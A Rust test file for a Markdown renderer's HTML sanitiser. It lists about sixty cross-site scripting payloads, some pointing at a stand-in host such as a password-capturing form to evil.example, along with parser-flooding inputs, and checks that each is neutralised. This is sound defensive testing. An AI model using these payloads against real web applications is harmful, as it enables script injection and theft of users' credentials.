//! What attackers write, and what machines write.

use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::super::*;

/// The attributes of every tag in sanitised HTML, where `<` stands for nothing but a tag.
fn attributes(html: &str) -> Vec<(String, String)> {
    let mut attributes = Vec::new();
    for tag in html.split('<').skip(1) {
        let mut rest = tag.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '/');
        while let Some(attribute) = rest.strip_prefix(' ') {
            let (name, value) = attribute.split_once("=\"").expect("a quoted value");
            let (value, after) = value.split_once('"').expect("a closing quote");
            attributes.push((name.to_owned(), value.to_owned()));
            rest = after;
        }
        assert!(rest.starts_with('>'), "{html}");
    }
    attributes
}

fn assert_is_harmless(source: &str) {
    let html = render(source);
    assert_eq!(sanitise::clean(&html), html, "{source:?}");
    assert!(!html.to_ascii_lowercase().contains("<script"), "{html}");
    for (name, value) in attributes(&html) {
        let known = [
            "href",
            "rel",
            "target",
            "class",
            "start",
            "data-filename",
            "data-username",
            "value",
        ];
        assert!(known.contains(&name.as_str()), "{name} in {html}");
        if name == "href" {
            let value = value.to_ascii_lowercase();
            let schemes = ["http://", "https://", "mailto:"];
            assert!(
                schemes.iter().any(|scheme| value.starts_with(scheme)),
                "{html}"
            );
        }
    }
}

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=https://evil.example><input name=password>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76ascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](https://a.example\" onclick=\"alert(1))",
    "[x](https://a.example 'y\" onclick=\"alert(1)')",
    "[x](https://a.example/<script>)",
    "![x\" onerror=\"alert(1)](https://a.example)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://a.example/\"onclick=alert(1)>",
    "<https://a.example/<script>>",
    "https://a.example/\"onmouseover=\"alert(1)",
    "https://a.example/'><script>alert(1)</script>",
    "mailto:a@b.example?subject=<script>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js:\" onclick=\"alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "@ken\"onclick=\"alert(1)",
    "@<script>alert(1)</script>",
    "|<script>|\n|-|\n|<img onerror=x>|",
    "- [x](javascript:x) <script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{10A50}<script>\u{10A51}<script>\u{10A52}",
    "<\u{10A50}script>alert(1)</script>",
    "<\0script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "</p><script>alert(1)</script><p>",
    "</code></pre><script>alert(1)</script>",
    "<a href='https://a.example' style='position:fixed' class='x' id='y'>",
    "<span class=\"mention\" data-username=\"admin\">@admin</span>",
];

#[test]
fn no_known_attack_gets_through() {
    for source in XSS {
        assert_is_harmless(source);
        assert_is_harmless(&format!("は**「{source}」**です\n{source}"));
        assert_is_harmless(&format!("> - {source}\n>   {source}"));
    }
}

#[test]
fn a_source_that_uses_every_stand_in_is_shown_as_text() {
    let source: String = ('\u{10A50}'..'\u{12480}')
        .chain("**「a」** <b>".chars())
        .collect();
    let html = render(&source);
    assert!(html.ends_with("**「a」** &lt;b&gt;</p>"));
    assert_is_harmless(&source);
}

#[test]
fn a_source_over_the_limit_is_shown_as_text() {
    let source = "*a* ".repeat(SOURCE_BYTES_MAX / 4 + 1);
    assert!(!render(&source).contains("<em>"));
}

/// What a flood repeats.
const UNITS: &[&str] = &[
    ">",
    "> ",
    "- ",
    "* ",
    "1. ",
    ">- ",
    "*",
    "**",
    "_",
    "~~",
    "*a ",
    "*a **a ",
    "*a _a ",
    "**a *b ",
    "a**「",
    "」**a",
    "は**「*",
    "[",
    "![",
    "[a](",
    "[a](<b",
    "[[a]",
    "](",
    "[a]",
    "[^a]",
    "`",
    "`a ``",
    "<",
    "<a",
    "<https://a",
    "<!--",
    "&",
    "&amp",
    "&#1;",
    "\\",
    "|",
    "|a|\n",
    "|-|\n",
    "a\n-\n",
    "\n",
    " ",
    "\t- ",
    " a\n",
    "```\n",
    "~~~a\n",
    "#",
    "# a\n",
    "://",
    "a://",
    "https://",
    "https://a.example/ ",
    "https://a.example/(",
    "[a](http://a",
    "(`",
    "*\\_",
    "（*",
    "|a|b|\n|-|-|\n",
    "```a b c\n",
    "~~~a\n> ",
    "http://a@b:1/",
    "mailto:",
    "mailto:a@b.c ",
    "a@",
    "@a",
    "@aa ",
    "@aa_",
    "@",
    "あ",
    "は*",
    "\u{10A50}",
    "!",
    "a b ",
    "\"",
    "- [ ] ",
    "(",
    "[a]:",
    "[a]: b\n",
    "<a b=\"",
    "</",
    "&\u{10A51}<b *",
];

/// Sources of [`SOURCE_BYTES_MAX`] bytes made to keep a renderer busy.
fn floods() -> Vec<(&'static str, String)> {
    let fill = |unit: &str| unit.repeat(SOURCE_BYTES_MAX / unit.len());
    let nested_list: String = (0..400)
        .map(|i| format!("{}- a\n", "  ".repeat(i)))
        .collect();
    let stairs: String = (0..250).map(|i| format!("{} a\n", ">".repeat(i))).collect();
    let definitions: String = (0..4000).map(|i| format!("[{i}]: x\n")).collect();
    let wide = "|a".repeat(1000) + "\n" + &"|-".repeat(1000) + "\n";
    let names = (0..10_000).map(|i| format!("@u{i} ")).collect();
    let closing = "http://a.example/".to_owned() + &")".repeat(30_000);
    let stars = "http://a.example/".to_owned() + &"*".repeat(30_000) + "a";
    let mut floods = vec![
        ("a link with brackets", closing),
        ("a link with stars", stars),
        ("names", names),
        ("nested list", nested_list),
        ("stairs of quotes", stairs),
        ("definitions", definitions),
        (
            "one long definition",
            format!("[a]: {}\n{}", "x".repeat(30_000), "[a]".repeat(10_000)),
        ),
        ("empty rows of a wide table", wide + &"|\n".repeat(30_000)),
        (
            "code spans of all lengths",
            (1..350).map(|i| "`".repeat(i) + "a").collect(),
        ),
    ];
    for &unit in UNITS {
        floods.push((unit, fill(unit)));
    }
    floods
}

#[test]
fn quotes_and_lists_nest_only_so_deep() {
    let numbers: String = (0..40)
        .map(|i| format!("{}1. b\n", "   ".repeat(i)))
        .collect();
    for (source, tag) in [
        (format!("{}**a**", "> ".repeat(1000)), "<blockquote>"),
        (format!("{}**a**", "- ".repeat(1000)), "<ul>"),
        (format!("{numbers}{}1. **a**", "   ".repeat(40)), "<ol>"),
    ] {
        let html = render(&source);
        assert_eq!(html.matches(tag).count(), 16, "{html}");
        assert!(html.contains("<strong>a</strong>"), "{html}");
    }
    let html = render(&format!("{}a", "*a **a ".repeat(1000)));
    assert!(html.matches("<em>").count() <= 64);
}

#[test]
fn floods_neither_panic_nor_blow_up() {
    for (name, source) in floods() {
        let rendered = render_with_mentions(&source);
        assert!(
            rendered.html.len() < 16 * SOURCE_BYTES_MAX,
            "{name:?}: {}",
            rendered.html.len()
        );
        assert!(rendered.mentions.len() < 40_000, "{name:?}");
    }
}

#[test]
#[ignore = "prints times"]
fn times() {
    let time = |source: &str| {
        let start = Instant::now();
        let mut rounds = 0_u32;
        while rounds < 3 || start.elapsed() < Duration::from_millis(20) {
            std::hint::black_box(render(source));
            rounds += 1;
        }
        start.elapsed() / rounds
    };
    let plain = "お疲れさまです。明日の会議は10時からに変更になりました。よろしくお願いします。";
    let report = |name: &str, source: &str| {
        let line = format!(
            "{name:<40} {:>7} bytes {:>12?}\n",
            source.len(),
            time(source)
        );
        std::io::Write::write_all(&mut std::io::stderr(), line.as_bytes()).expect("stderr");
    };
    report("plain", plain);
    report("plain through the parser", &format!("{plain}\\!"));
    report(
        "emphasis, link, mention",
        &format!("@ken {plain}**「重要」** https://a.example/b"),
    );
    report("4,000 characters of prose", &plain.repeat(100));
    report(
        "4,000 characters with markup",
        &format!("**a** {plain}\n").repeat(80),
    );
    let mut floods = floods();
    floods.sort_by_cached_key(|(_, source)| std::cmp::Reverse(time(source)));
    for (name, source) in floods.iter().take(20) {
        report(&format!("{name:?}"), source);
    }
}

/// Texts made of what Markdown, HTML and Japanese consist of.
fn markup() -> impl Strategy<Value = String> {
    let token = prop_oneof![
        Just("**"),
        Just("*"),
        Just("_"),
        Just("~~"),
        Just("~"),
        Just("`"),
        Just("```"),
        Just("\n"),
        Just("\n\n"),
        Just("    "),
        Just("- "),
        Just("1. "),
        Just("> "),
        Just("# "),
        Just("|"),
        Just("|-|"),
        Just("["),
        Just("]"),
        Just("("),
        Just(")"),
        Just("!["),
        Just("\\"),
        Just("<"),
        Just(">"),
        Just("<b onclick=x>"),
        Just("<script>"),
        Just("&lt;"),
        Just("&"),
        Just("\""),
        Just("javascript:"),
        Just("https://a.example/"),
        Just("mailto:a@b.example"),
        Just("@"),
        Just("@ken"),
        Just("「"),
        Just("」"),
        Just("。"),
        Just("は"),
        Just("重要"),
        Just("a"),
        Just(" "),
        Just("1"),
        Just(":"),
        Just("\u{10A50}"),
        Just("\u{10A51}"),
        Just("[x] "),
        Just("[ ] "),
        Just("\u{3000}"),
        Just("\u{A0}"),
    ];
    proptest::collection::vec(token, 0..40).prop_map(|tokens| tokens.concat())
}

proptest! {
    #[test]
    fn any_text_renders_to_something_harmless(source in any::<String>()) {
        assert_is_harmless(&source);
    }

    #[test]
    fn any_markup_renders_to_something_harmless(source in markup()) {
        assert_is_harmless(&source);
    }

    #[test]
    fn stand_ins_leave_no_trace(source in markup()) {
        for c in render(&source).chars().filter(|c| ('\u{10A50}'..'\u{12480}').contains(c)) {
            prop_assert!(source.contains(c));
        }
    }

    #[test]
    fn a_fence_shows_any_line_as_it_is(source in markup()) {
        let line = source.replace('\n', " ").replace("```", "``x");
        let mut escaped = String::new();
        plain::escape(&line, &mut escaped);
        let escaped = escaped.replace("&quot;", "\"");
        let html = render(&format!("```\n{line}\n```"));
        prop_assert_eq!(html, format!("<pre><code>{escaped}\n</code></pre>"));
    }

    #[test]
    fn plain_text_renders_the_same_with_and_without_the_parser(
        source in "[a-z0-9 \nあ、。「」！?!()（）.:;,'+=%/$^{}ー-]{0,40}"
    ) {
        if plain::is_plain(&source) {
            let parsed = render_markup(&source).expect("stand-ins");
            prop_assert_eq!(plain::render(&source), parsed.html);
        }
    }

    #[test]
    fn any_plain_text_renders_the_same_with_and_without_the_parser(source in any::<String>()) {
        if plain::is_plain(&source) {
            let parsed = render_markup(&source).expect("stand-ins");
            prop_assert_eq!(plain::render(&source), parsed.html);
        }
    }
}
